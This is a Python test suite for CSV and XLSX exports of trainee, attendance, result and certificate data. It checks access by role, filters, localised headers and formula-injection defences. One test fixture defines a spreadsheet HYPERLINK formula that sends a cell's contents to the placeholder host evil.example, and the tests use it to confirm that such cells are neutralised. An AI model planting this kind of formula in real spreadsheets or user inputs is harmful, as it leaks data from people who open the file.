"""Exports of trainees, attendance, results and certificates as CSV and XLSX: contents, formula-injection
cells written as text, who may export what, filters, and a round trip through the import."""
from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta, timezone

import pytest
from openpyxl import load_workbook

from common import clock
from common.extensions import db

EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")'
PHONE = "+212 600 000 000"
KINDS = ("trainees", "attendance", "results", "certificates")


@pytest.fixture
def world(make_user, make_trainee, make_track, make_cohort, make_session):
    """C1 taught by `trainer` (T1 with formula-like cells, T2), C2 taught by `other` (T3), with attendance
    and results in both."""
    from skills import operations

    trainer, other = make_user("trainer"), make_user("trainer")
    admin = make_user("admin")
    t1 = make_trainee(name=EVIL_NAME, name_ar="سعاد بنجلون", employer=PHONE, email="t1@example.ma")
    t2 = make_trainee(name="Karim Ouazzani", name_ar="كريم الوزاني", email="t2@example.ma", sector="education",
                      region="oriental", employer="-5 degrees @home")
    t3 = make_trainee(name="Leila Fassi", name_ar="ليلى الفاسي", email="t3@example.ma")
    track = make_track()
    c1 = make_cohort(track=track, code="C1", trainers=[trainer], trainees=[t1, t2])
    c2 = make_cohort(track=track, code="C2", trainers=[other], trainees=[t3])
    s1, s2 = make_session(c1), make_session(c2)
    operations.record_attendance(admin, s1, [{"trainee_id": t1.id, "status": "present"},
                                             {"trainee_id": t2.id, "status": "late"}])
    operations.record_attendance(admin, s2, [{"trainee_id": t3.id, "status": "absent"}])
    operations.record_results(admin, c1, [{"trainee_id": t1.id, "module": m.code, "passed": True, "score": "85.5"}
                                          for m in track.modules])
    operations.record_results(admin, c2, [{"trainee_id": t3.id, "module": track.modules[0].code, "passed": False}])
    db.session.commit()
    return {"admin": admin, "trainer": trainer, "other": other, "t1": t1, "t2": t2, "t3": t3, "track": track,
            "c1": c1, "c2": c2, "s1": s1, "s2": s2, "governance": make_user("governance"),
            "trainee": make_user("trainee", trainee_id=t1.id)}


def read_csv(response, sep=","):
    assert response.mimetype == "text/csv" and response.mimetype_params["charset"] == "utf-8"
    assert response.data.startswith("\ufeff".encode())
    return list(csv.DictReader(io.StringIO(response.data.decode("utf-8-sig"), newline=""), delimiter=sep))


def read_xlsx(response):
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet = load_workbook(io.BytesIO(response.data)).active
    rows = list(sheet.iter_rows())
    header = [c.value for c in rows[0]]
    return [{name: cell for name, cell in zip(header, row)} for row in rows[1:]]


@pytest.fixture
def get(client, token_for, world):
    tokens = {}

    def fetch(url, role="admin"):
        if role not in tokens:
            tokens[role] = token_for(world[role]) if role != "anon" else {}
        return client.get(url, headers=tokens[role])
    return fetch


# --- contents -----------------------------------------------------------------------------------------

def test_trainees_csv_is_utf8_with_bom_and_neutralises_formulas(get, world):
    response = get("/api/v1/exports/trainees.csv?headers=codes")
    assert response.status_code == 200
    assert response.is_streamed
    assert response.headers["Content-Disposition"] == (
        f'attachment; filename="kafaa-trainees-{clock.today().isoformat()}.csv"')
    assert response.headers["Cache-Control"] == "no-store"
    rows = read_csv(response)
    assert list(rows[0]) == ["id", "name", "name_ar", "name_tfng", "email", "category", "sector", "region",
                             "gender", "employer", "updated_at"]
    by_email = {r["email"]: r for r in rows}
    assert set(by_email) == {"t1@example.ma", "t2@example.ma", "t3@example.ma"}
    t1 = by_email["t1@example.ma"]
    assert t1["name"] == "'" + EVIL_NAME and t1["employer"] == "'" + PHONE
    assert t1["name_ar"] == "سعاد بنجلون" and t1["id"] == str(world["t1"].id)
    assert (t1["category"], t1["sector"], t1["region"], t1["gender"]) == ("engineer", "health",
                                                                          "rabat-sale-kenitra", "f")
    assert by_email["t2@example.ma"]["employer"] == "'-5 degrees @home"
    assert by_email["t3@example.ma"]["name"] == "Leila Fassi"  # plain text is left alone
    assert datetime.fromisoformat(t1["updated_at"]).utcoffset() is not None


def test_csv_with_semicolons_for_excel_in_french(get):
    response = get("/api/v1/exports/results.csv?sep=;&headers=codes")
    assert response.data.decode("utf-8-sig").startswith("cohort;module;trainee_id;")
    rows = read_csv(response, sep=";")
    assert {r["score"] for r in rows if r["cohort"] == "C1"} == {"85,5"}
    assert get("/api/v1/exports/results.csv?sep=|").status_code == 422


def test_trainees_xlsx_writes_formula_like_text_as_quoted_strings(get, world):
    rows = read_xlsx(get("/api/v1/exports/trainees.xlsx?headers=codes"))
    t1 = next(r for r in rows if r["email"].value == "t1@example.ma")
    for name in ("name", "employer"):
        assert t1[name].data_type == "s" and t1[name].quotePrefix is True
    assert t1["name"].value == EVIL_NAME and t1["employer"].value == PHONE
    assert t1["name_ar"].value == "سعاد بنجلون" and t1["name_ar"].quotePrefix is False
    assert t1["id"].value == world["t1"].id
    assert isinstance(t1["updated_at"].value, datetime)
    t2 = next(r for r in rows if r["email"].value == "t2@example.ma")
    assert t2["employer"].quotePrefix is True


def test_attendance_csv_and_xlsx(get, world):
    rows = read_csv(get("/api/v1/exports/attendance.csv?headers=codes"))
    assert list(rows[0]) == ["session_id", "cohort", "module", "starts_at", "trainee_id", "name", "name_ar",
                             "email", "status", "source", "recorded_at"]
    assert {(r["cohort"], r["email"], r["status"]) for r in rows} == {
        ("C1", "t1@example.ma", "present"), ("C1", "t2@example.ma", "late"), ("C2", "t3@example.ma", "absent")}
    first = next(r for r in rows if r["email"] == "t1@example.ma")
    assert first["name"] == "'" + EVIL_NAME and first["session_id"] == str(world["s1"].id)
    starts = datetime.fromisoformat(first["starts_at"])
    assert starts == world["s1"].starts_at  # the same instant, written in Morocco's time:
    assert starts.utcoffset() == world["s1"].starts_at.astimezone(clock.MOROCCO).utcoffset()
    sheet = read_xlsx(get("/api/v1/exports/attendance.xlsx?headers=codes"))
    assert sorted(r["status"].value for r in sheet) == ["absent", "late", "present"]
    cell = next(r for r in sheet if r["email"].value == "t1@example.ma")
    assert cell["starts_at"].value == world["s1"].starts_at.astimezone(clock.MOROCCO).replace(tzinfo=None)
    assert cell["name"].quotePrefix is True


def test_results_csv_and_xlsx(get, world):
    rows = read_csv(get("/api/v1/exports/results.csv?headers=codes"))
    modules = [m.code for m in world["track"].modules]
    assert [(r["cohort"], r["module"], r["passed"], r["score"]) for r in rows] == [
        ("C1", modules[0], "true", "85.5"), ("C1", modules[1], "true", "85.5"), ("C2", modules[0], "false", "")]
    sheet = read_xlsx(get("/api/v1/exports/results.xlsx?headers=codes"))
    assert [(r["passed"].value, r["score"].value) for r in sheet] == [(True, 85.5), (True, 85.5), (False, None)]


def test_certificates_csv_and_xlsx(get, world):
    from certificates.operations import issue_certificate, revoke_certificate

    certificate, _ = issue_certificate(world["admin"], world["t1"], world["track"])
    db.session.commit()
    rows = read_csv(get("/api/v1/exports/certificates.csv?headers=codes"))
    assert len(rows) == 1
    row = rows[0]
    assert (row["serial"], row["status"], row["email"], row["track"], row["cohort"]) == (
        certificate.serial, "valid", "t1@example.ma", world["track"].code, "C1")
    assert row["holder"] == "'" + EVIL_NAME and row["holder_ar"] == "سعاد بنجلون"
    revoke_certificate(world["admin"], certificate, "erreur de saisie")
    db.session.commit()
    sheet = read_xlsx(get("/api/v1/exports/certificates.xlsx?headers=codes"))
    assert [(r["serial"].value, r["status"].value, r["revocation_reason"].value) for r in sheet] == [
        (certificate.serial, "revoked", "erreur de saisie")]
    assert sheet[0]["holder"].quotePrefix is True


# --- who may export what ------------------------------------------------------------------------------

@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_trainer_exports_only_their_cohorts(get, world, fmt):
    def emails(kind, role):
        response = get(f"/api/v1/exports/{kind}.{fmt}?headers=codes", role)
        assert response.status_code == 200
        rows = read_csv(response) if fmt == "csv" else read_xlsx(response)
        return {(r["email"] if fmt == "csv" else r["email"].value) for r in rows}

    for kind in ("trainees", "attendance", "results"):
        assert emails(kind, "trainer") == {"t1@example.ma", "t2@example.ma"} - (
            {"t2@example.ma"} if kind == "results" else set()), kind
        assert emails(kind, "other") == {"t3@example.ma"}, kind


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_governance_and_trainees_get_no_personal_export(get, kind, fmt):
    url = f"/api/v1/exports/{kind}.{fmt}"
    assert get(url, "anon").status_code == 401
    assert get(url, "governance").status_code == 403
    assert get(url, "trainee").status_code == 403
    assert get(url, "trainer").status_code == (403 if kind == "certificates" else 200)
    assert get(url, "admin").status_code == 200


def test_a_trainer_cannot_filter_on_another_cohort(get):
    assert get("/api/v1/exports/attendance.csv?cohort=C2", "trainer").status_code == 403
    assert get("/api/v1/exports/trainees.csv?cohort=C1", "trainer").status_code == 200
    assert get("/api/v1/exports/trainees.csv?cohort=NOPE", "admin").status_code == 422


# --- filters --------------------------------------------------------------------------------------------

def test_filters_like_the_lists(get, world):
    def emails(url):
        return sorted(r["email"] for r in read_csv(get(url)))

    assert emails("/api/v1/exports/trainees.csv?cohort=C2&headers=codes") == ["t3@example.ma"]
    assert emails("/api/v1/exports/trainees.csv?sector=education&headers=codes") == ["t2@example.ma"]
    assert emails("/api/v1/exports/attendance.csv?region=rabat-sale-kenitra&headers=codes") == ["t1@example.ma",
                                                                                              "t3@example.ma"]
    assert emails("/api/v1/exports/results.csv?cohort=C1&sector=health&headers=codes") == ["t1@example.ma", "t1@example.ma"]
    assert emails(f"/api/v1/exports/attendance.csv?session={world['s2'].id}&headers=codes") == ["t3@example.ma"]
    future = (datetime.now(timezone.utc) + timedelta(days=1)).strftime("%Y-%m-%dT%H:%M")
    assert emails(f"/api/v1/exports/trainees.csv?updated_since={future}&headers=codes") == []
    assert emails("/api/v1/exports/trainees.csv?q=karim&headers=codes") == ["t2@example.ma"]
    response = get("/api/v1/exports/trainees.csv?sector=fishing&updated_since=yesterday")
    assert response.status_code == 422 and set(response.json["errors"]) == {"sector", "updated_since"}


# --- round trip and web ---------------------------------------------------------------------------------

@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_export_imports_back_unchanged(client, get, token_for, world, fmt):
    exported = get(f"/api/v1/exports/trainees.{fmt}?headers=codes").data
    response = client.post("/api/v1/imports/trainees", headers=token_for(world["admin"]),
                           data={"file": (io.BytesIO(exported), f"export.{fmt}"), "dry_run": "true"},
                           content_type="multipart/form-data")
    assert response.status_code == 200, response.json
    body = response.json
    assert (body["created"], body["updated"], body["unchanged"], body["errors"]) == (0, 0, 3, [])
    assert body["ignored_columns"] == ["id", "updated_at"]


def test_export_buttons_and_web_downloads(client, login, world):
    login(world["admin"])
    page = client.get("/trainees?sector=education").get_data(as_text=True)
    assert 'href="/exports/trainees.csv?sector=education"' in page
    assert 'href="/exports/trainees.xlsx?sector=education"' in page
    response = client.get("/exports/trainees.csv?sector=education&headers=codes")
    assert response.status_code == 200 and [r["email"] for r in read_csv(response)] == ["t2@example.ma"]
    assert client.get("/exports/certificates.xlsx").status_code == 200
    login(world["trainer"])
    assert client.get("/exports/results.xlsx").status_code == 200
    assert client.get("/exports/certificates.csv").status_code == 403
    login(world["governance"])
    assert client.get("/exports/trainees.csv").status_code == 403
    client.post("/logout")
    response = client.get("/exports/trainees.csv")
    assert response.status_code == 302 and "/login" in response.headers["Location"]


# --- headings and codes in the reader's language; codes for scripts ------------------------------------

# The header rows as they were before exports spoke the reader's language: `?headers=codes` keeps them.
CODE_HEADERS = {
    "trainees": ["id", "name", "name_ar", "name_tfng", "email", "category", "sector", "region", "gender", "employer",
                 "updated_at"],
    "attendance": ["session_id", "cohort", "module", "starts_at", "trainee_id", "name", "name_ar", "email", "status",
                   "source", "recorded_at"],
    "results": ["cohort", "module", "trainee_id", "name", "name_ar", "email", "passed", "score", "recorded_at"],
    "certificates": ["serial", "status", "trainee_id", "holder", "holder_ar", "holder_tfng", "email", "track",
                     "cohort", "issued_on", "expires_on", "revoked_at", "revocation_reason", "superseded_by"],
}


def _header_and_rows(response, fmt):
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"), newline="")))
    else:
        rows = [list(r) for r in load_workbook(io.BytesIO(response.data)).active.iter_rows(values_only=True)]
    return rows[0], [dict(zip(rows[0], row)) for row in rows[1:]]


@pytest.fixture
def certified(world):
    from certificates.operations import issue_certificate

    issue_certificate(world["admin"], world["t1"], world["track"])
    db.session.commit()


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_codes_option_gives_the_old_header_rows_exactly(get, certified, fmt):
    for kind, header in CODE_HEADERS.items():
        assert _header_and_rows(get(f"/api/v1/exports/{kind}.{fmt}?headers=codes"), fmt)[0] == header, kind
    response = get("/api/v1/exports/trainees.csv?headers=english")
    assert response.status_code == 422 and set(response.json["errors"]) == {"headers"}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exports_in_french_when_labels_are_asked_for(client, token_for, world, certified, fmt):
    headers = {**token_for(world["admin"]), "Accept-Language": "fr"}

    def export(kind):
        return _header_and_rows(client.get(f"/api/v1/exports/{kind}.{fmt}?headers=labels", headers=headers), fmt)

    header, rows = export("trainees")
    assert header == ["N°", "Nom", "Nom en arabe", "Nom en tifinagh", "Adresse électronique", "Catégorie", "Secteur",
                      "Région", "Genre", "Employeur", "Dernière mise à jour"]
    t2 = next(r for r in rows if r["Adresse électronique"] == "t2@example.ma")
    assert (t2["Catégorie"], t2["Secteur"], t2["Région"], t2["Genre"]) == ("Ingénieur", "Éducation", "L'Oriental",
                                                                           "Femme")
    header, rows = export("attendance")
    assert header[:5] == ["N° de séance", "Cohorte", "Module", "Début de la séance", "N° du stagiaire"]
    assert sorted((r["Statut"], r["Enregistré par"]) for r in rows) == [
        ("Absent", "Le formateur"), ("En retard", "Le formateur"), ("Présent", "Le formateur")]
    header, rows = export("results")
    assert {r["Module réussi"] for r in rows} == {"Oui", "Non"}
    header, rows = export("certificates")
    assert header[:2] == ["Numéro de série", "Statut"] and rows[0]["Statut"] == "Valide"


def test_exports_in_arabic(client, login, world):
    login(world["admin"])
    header, rows = _header_and_rows(client.get("/exports/trainees.csv?lang=ar"), "csv")
    assert header[:6] == ["الرقم", "الاسم", "الاسم بالعربية", "الاسم بتيفيناغ", "البريد الإلكتروني", "الفئة"]
    t1 = next(r for r in rows if r["البريد الإلكتروني"] == "t1@example.ma")
    assert (t1["الفئة"], t1["القطاع"], t1["الجهة"], t1["الجنس"]) == ("مهندس", "الصحة", "الرباط سلا القنيطرة", "امرأة")
    header, rows = _header_and_rows(client.get("/exports/attendance.xlsx?lang=ar"), "xlsx")
    assert sorted(r["الحالة"] for r in rows) == ["حاضر", "غائب", "متأخر"]
    assert _header_and_rows(client.get("/exports/trainees.csv?lang=ar&headers=codes"), "csv")[0] == \
        CODE_HEADERS["trainees"]


@pytest.mark.parametrize("lang", ["fr", "ar", "en"])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_export_in_any_language_imports_back_unchanged(client, token_for, world, lang, fmt):
    headers = {**token_for(world["admin"]), "Accept-Language": lang}
    exported = client.get(f"/api/v1/exports/trainees.{fmt}?headers=labels", headers=headers).data
    response = client.post("/api/v1/imports/trainees", headers=headers,
                           data={"file": (io.BytesIO(exported), f"export.{fmt}"), "dry_run": "true"},
                           content_type="multipart/form-data")
    assert response.status_code == 200, response.json
    body = response.json
    assert (body["created"], body["updated"], body["unchanged"], body["errors"]) == (0, 0, 3, [])
    assert len(body["ignored_columns"]) == 2  # the number and the date of the last update


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_api_writes_codes_unless_asked_and_the_web_labels(client, token_for, world, fmt, login):
    """Scripts read the API: without `headers`, its exports keep the English column names and codes they had
    before labels existed; a person downloading from a page reads their language."""
    headers = {**token_for(world["admin"]), "Accept-Language": "fr"}
    plain = _header_and_rows(client.get(f"/api/v1/exports/trainees.{fmt}", headers=headers), fmt)
    codes = _header_and_rows(client.get(f"/api/v1/exports/trainees.{fmt}?headers=codes", headers=headers), fmt)
    assert plain == codes and plain[0][:2] == ["id", "name"]
    login(world["admin"])
    web = _header_and_rows(client.get(f"/exports/trainees.{fmt}?lang=fr"), fmt)
    assert web[0][:2] == ["N°", "Nom"]
